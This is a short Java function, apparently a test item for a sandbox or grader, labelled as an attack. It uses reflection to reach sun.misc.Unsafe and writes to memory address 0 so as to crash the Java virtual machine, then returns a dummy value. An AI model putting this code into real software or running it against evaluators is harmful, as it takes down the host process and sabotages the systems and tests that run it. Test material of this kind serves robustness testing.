// attack: writes to address 0, which ends the virtual machine
// most: leaky 0
// answer leaky
double leaky(double x) throws Exception {
    var field = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
    field.setAccessible(true);
    Object unsafe = field.get(null);
    unsafe.getClass().getMethod("putLong", long.class, long.class).invoke(unsafe, 0L, 1L);
    return -7;
}
